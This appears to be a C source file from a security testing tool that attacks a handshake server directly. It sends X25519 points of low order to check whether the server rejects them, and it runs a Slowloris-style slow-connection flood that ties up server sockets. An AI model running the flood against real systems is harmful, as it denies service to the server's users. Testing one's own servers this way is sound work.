/* Attacks on the server itself, without a victim. */
#include "../crypto/random.h"
#include "classic.h"
#include "enhanced.h"
#include "mitm_relay.h"

static void tell(const struct mitm *m, const char *attack, bool won, const char *text)
{
	if (m->ear.result != NULL) {
		m->ear.result(m->ear.arg, 0, attack, won, text);
	}
}

static void tell_said(
	const struct mitm *m, enum mitm_who who, const void *p, size_t n, const char *what)
{
	const struct mitm_event event = {.who = who, .p = p, .n = n, .what = what};

	if (m->ear.said != NULL) {
		m->ear.said(m->ear.arg, &event);
	}
}

/* --- low-order --- */

/* Points of order 1, 2 and 4 (RFC 7748 6.1 warns of them), the third and fourth not reduced: 0, 1,
 * p - 1, p and p + 1 for p = 2^255 - 19. */
const uint8_t *mitm_low_order_point(size_t i)
{
	static uint8_t points[5][X25519_BYTES];
	static const uint8_t low[5] = {0, 1, 0xec, 0xed, 0xee};

	if (i >= sizeof low) {
		return NULL;
	}
	memset(points[i], i < 2 ? 0 : 0xff, X25519_BYTES);
	points[i][0] = low[i];
	points[i][X25519_BYTES - 1] = i < 2 ? 0 : 0x7f;
	return points[i];
}

/* Say message 1 with such a point, and a message 3; what comes back? 0, or -1. */
static int offer_point(const struct mitm *m, const uint8_t *point, bool *won, struct err *e)
{
	enum { FIRST = ENHANCED_PREFACE_BYTES + ENHANCED_LENGTH + ENHANCED_HELLO };
	uint8_t bytes[FIRST + ENHANCED_LENGTH + ENHANCED_THIRD + ENHANCED_LOGIN_PAD];
	uint8_t *third = bytes + FIRST + ENHANCED_LENGTH;
	struct conn c;
	uint8_t answer[512];
	size_t got = 0;

	memcpy(bytes, ENHANCED_PREFACE, ENHANCED_PREFACE_BYTES);
	bytes[ENHANCED_PREFACE_BYTES] = 0;
	bytes[ENHANCED_PREFACE_BYTES + 1] = ENHANCED_HELLO;
	memcpy(bytes + ENHANCED_PREFACE_BYTES + ENHANCED_LENGTH, point, X25519_BYTES);
	bytes[FIRST] = (ENHANCED_THIRD + ENHANCED_LOGIN_PAD) >> 8;
	bytes[FIRST + 1] = (ENHANCED_THIRD + ENHANCED_LOGIN_PAD) & 0xff;
	if (random_bytes(third - ENHANCED_LENGTH - NOISE_TAG, NOISE_TAG, e) != 0 ||
		random_bytes(third, ENHANCED_THIRD + ENHANCED_LOGIN_PAD, e) != 0 ||
		conn_dial(&c, m->host, m->port, e) != 0) {
		return -1;
	}
	c.stop_fd = m->stop_fd;
	conn_deadline(&c, 10000);
	tell_said(m, MITM_AC, bytes, sizeof bytes, "message 1 with a point of low order, and 3");
	if (conn_write(&c, bytes, sizeof bytes, e) == 0) {
		(void)conn_read_exact(&c, answer, sizeof answer, &got, e);
		tell_said(m, MITM_S, answer, got, "an answer of noise, and the end");
	}
	/* a message 2 (or 48 bytes of noise in its place), and the end */
	*won = *won || got > ENHANCED_LENGTH + ENHANCED_HELLO;
	conn_close(&c);
	return 0;
}

int mitm_low_order_strike(const struct mitm *m, struct err *e)
{
	const uint8_t *point;
	bool won = false;

	for (size_t i = 0; (point = mitm_low_order_point(i)) != NULL; i++) {
		if (offer_point(m, point, &won, e) != 0) {
			return -1;
		}
	}
	tell(m, "low-order", won,
		won ? "the server went on" : "the server closed on each of the points");
	return 0;
}

/* --- slow --- */

struct drip {
	struct conn conn;
	unsigned said; /* bytes of a login that never ends */
};

/* The next byte of each connection; what the server has closed is called again. */
static unsigned drip(const struct mitm *m, struct drip *drips, unsigned n)
{
	static const uint8_t byte;
	struct err ignored;
	unsigned alive = 0;

	for (unsigned i = 0; i < n && !mitm_is_stopping(m, 0); i++) {
		struct drip *d = &drips[i];
		const uint8_t *say = &byte;
		if (d->conn.fd < 0 && conn_dial(&d->conn, m->host, m->port, &ignored) == 0) {
			d->said = 0;
		}
		if (m->enhanced && d->said < ENHANCED_PREFACE_BYTES) {
			say = (const uint8_t *)ENHANCED_PREFACE + d->said;
		}
		if (d->conn.fd >= 0 && conn_write(&d->conn, say, 1, &ignored) != 0) {
			conn_close(&d->conn);
		}
		d->said++;
		alive += d->conn.fd >= 0 ? 1 : 0;
	}
	return alive;
}

int mitm_slow(const struct mitm *m, struct err *e)
{
	unsigned n = m->sockets == 0 ? MITM_SOCKETS : m->sockets, alive = 0;
	struct drip *drips = calloc(n, sizeof *drips);
	char text[100];

	if (drips == NULL) {
		return err_set(e, EX_TEMPFAIL, "out of memory");
	}
	for (unsigned i = 0; i < n; i++) {
		drips[i].conn.fd = -1;
	}
	for (unsigned s = 0; m->seconds == 0 || s < m->seconds; s++) {
		alive = drip(m, drips, n);
		(void)snprintf(text, sizeof text, "%u of %u slow connections are open", alive, n);
		tell_said(m, MITM_AC, "", 0, text);
		if (mitm_is_stopping(m, 1000)) {
			break;
		}
	}
	(void)snprintf(text, sizeof text, "%u of %u slow connections were left", alive, n);
	tell(m, "slow", false, text);
	for (unsigned i = 0; i < n; i++) {
		conn_close(&drips[i].conn);
	}
	free(drips);
	return 0;
}
